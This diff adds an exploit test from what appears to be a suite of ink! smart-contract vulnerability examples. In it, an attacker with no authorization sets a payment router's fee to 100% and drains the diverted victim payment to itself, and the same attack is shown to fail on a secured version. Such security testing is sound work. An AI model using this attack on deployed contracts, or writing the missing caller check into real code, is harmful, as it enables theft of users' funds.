@@ -0,0 +1,84 @@
+//! Anyone raises the fee to 100% and sweeps the fees to themselves
+
+use std::fmt;
+
+use anyhow::{ensure, Result as AnyResult};
+use ink::primitives::AccountId;
+use ink::scale::{Decode, Encode};
+
+use crate::{
+    account_id, attacker, message, owner, victim, Balance, Chain, Constructor, ExploitSpec,
+};
+
+pub const SPEC: ExploitSpec = ExploitSpec {
+    example: "missing_caller_check",
+    description: "set_fee(10_000) diverts a whole payment, drain_treasury pays it out",
+    must_succeed: || {
+        Box::pin(attack::<
+            _,
+            _,
+            _,
+            missing_caller_check::missing_caller_check::Error,
+        >(
+            "missing_caller_check",
+            missing_caller_check::missing_caller_check::PaymentRouterRef::new,
+        ))
+    },
+    must_fail: || {
+        Box::pin(attack::<
+            _,
+            _,
+            _,
+            missing_caller_check_secure::missing_caller_check::Error,
+        >(
+            "missing_caller_check_secure",
+            missing_caller_check_secure::missing_caller_check::PaymentRouterRef::new,
+        ))
+    },
+    rejection: "MissingRole",
+};
+
+const FEE_BPS: u16 = 100;
+/// The whole payment, in basis points
+const ALL_OF_IT: u16 = 10_000;
+const PAYMENT: Balance = 10_000_000_000_000;
+
+async fn attack<C, A, R, E>(
+    contract: &'static str,
+    new: fn(AccountId, u16) -> Constructor<C, A, R>,
+) -> AnyResult<()>
+where
+    C: Clone,
+    A: Encode + Clone + Send + Sync,
+    E: Decode + Send + fmt::Debug,
+{
+    let mut chain = Chain::new().await?;
+    let merchant = account_id(&owner());
+    let router = chain
+        .deploy(contract, &owner(), new(merchant, FEE_BPS))
+        .await?;
+
+    chain
+        .send(
+            &attacker(),
+            &message!(router, "set_fee"(ALL_OF_IT) -> Result<(), E>),
+            0,
+        )
+        .await?;
+    chain
+        .send(&victim(), &message!(router, "pay"(merchant)), PAYMENT)
+        .await?;
+
+    let attacker_id = account_id(&attacker());
+    let before = chain.balance(attacker_id).await?;
+    chain
+        .send(
+            &attacker(),
+            &message!(router, "drain_treasury"(attacker_id)),
+            0,
+        )
+        .await?;
+    let gained = chain.balance(attacker_id).await?.saturating_sub(before);
+    ensure!(gained > PAYMENT / 2, "attacker gained only {gained}");
+    Ok(())
+}